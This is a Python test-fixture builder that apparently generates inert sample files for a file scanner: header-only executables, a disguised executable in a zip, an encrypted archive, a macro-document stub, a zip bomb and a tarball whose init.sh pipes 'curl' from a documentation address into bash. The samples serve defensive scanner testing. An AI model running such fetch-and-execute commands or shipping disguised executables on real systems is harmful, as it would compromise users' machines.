"""Builds the corpus's binary files (executables, archives, Office files), inert.

The corpus commits the files this module builds; run it again after changing a builder:
`python tests/scanning/corpus/binaries.py`. Every "executable" is a header and zeros
(no code), every script inside an archive points at documentation addresses
(192.0.2.0/24, *.invalid), and nothing here runs any of it.
"""

from __future__ import annotations

import gzip
import io
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

_TIME = (2026, 1, 1, 0, 0, 0)

ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(108)
PE = b"MZ" + bytes(0x3A) + (0x40).to_bytes(4, "little") + b"PE\x00\x00" + bytes(60)
MACHO = bytes.fromhex("cffaedfe07000001") + bytes(120)


def _zip(members: dict[str, bytes], encrypted: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, _TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    data = out.getvalue()
    if encrypted:  # mark every member encrypted (local and central headers)
        data = data.replace(b"PK\x03\x04\x14\x00\x00\x00", b"PK\x03\x04\x14\x00\x01\x00")
        data = data.replace(
            b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00"
        )
    return data


def _tgz(members: dict[str, bytes]) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1767225600
            info.mode = 0o755 if name.endswith(".sh") else 0o644
            archive.addfile(info, io.BytesIO(data))
    return gzip.compress(raw.getvalue(), mtime=0)


def _office(kind: str, extra: dict[str, bytes] | None = None) -> bytes:
    part = {
        "docx": "word/document.xml",
        "xlsx": "xl/workbook.xml",
        "pptx": "ppt/presentation.xml",
        "docm": "word/document.xml",
    }[kind]
    members = {
        "[Content_Types].xml": b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "_rels/.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>',
        part: b'<?xml version="1.0"?><doc><p>{{title}} report for {{customer}}; see https://example.com/terms</p></doc>',
        "docProps/core.xml": b'<?xml version="1.0"?><coreProperties><title>Template</title></coreProperties>',
    }
    members.update(extra or {})
    return _zip(members)


BUILDERS: dict[str, Callable[[], bytes]] = {
    "@ELF@": lambda: ELF,
    "@PE@": lambda: PE,
    "@MACHO@": lambda: MACHO,
    "@ZIP_ELF@": lambda: _zip({"README.txt": b"Video converter build 1.0\n", "convert": ELF}),
    "@ZIP_ENCRYPTED@": lambda: _zip({"setup.exe": PE, "readme.txt": b"password: mods2026\n"}, True),
    "@TGZ_SCRIPT@": lambda: _tgz(
        {
            "bootstrap/init.sh": b"#!/bin/sh\ncurl -s http://192.0.2.12/i | bash\n",
            "bootstrap/README.md": b"# Bootstrap\n",
        }
    ),
    "@DOCM@": lambda: _office(
        "docm", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(200)}
    ),
    "@ZIP_BOMB@": lambda: _zip({"data.csv": bytes(24 * 1024 * 1024)}),
    "@DOCX@": lambda: _office("docx"),
    "@XLSX@": lambda: _office("xlsx"),
    "@PPTX@": lambda: _office("pptx"),
    "@FONTS_ZIP@": lambda: _zip(
        {
            "fonts/Inter-Regular.ttf": b"\x00\x01\x00\x00\x00\x10\x01\x00" + bytes(400),
            "fonts/SourceSerif4-Regular.otf": b"OTTO\x00\x0c\x00\x80" + bytes(400),
            "fonts/OFL.txt": b"SIL OPEN FONT LICENSE Version 1.1\n",
        }
    ),
    "@SITE_TGZ@": lambda: _tgz(
        {
            "site/index.html": b"<!doctype html><html><head><link rel=stylesheet href=styles.css></head><body><h1>Hello</h1></body></html>\n",
            "site/styles.css": b"body { font-family: system-ui; margin: 2rem; }\n",
        }
    ),
    "@CSV_GZ@": lambda: gzip.compress(
        b"date,region,amount\n"
        + b"".join(b"2026-01-%02d,EU,%d\n" % (i % 28 + 1, i * 7) for i in range(1000)),
        mtime=0,
    ),
}


def materialise(folder: Path) -> None:
    """Replace every corpus file whose whole content is a builder marker with its bytes."""
    for path in folder.rglob("*"):
        if path.is_file() and path.stat().st_size < 64:
            marker = path.read_bytes().strip().decode("latin-1")
            if marker in BUILDERS:
                path.write_bytes(BUILDERS[marker]())


if __name__ == "__main__":
    materialise(Path(__file__).parent)
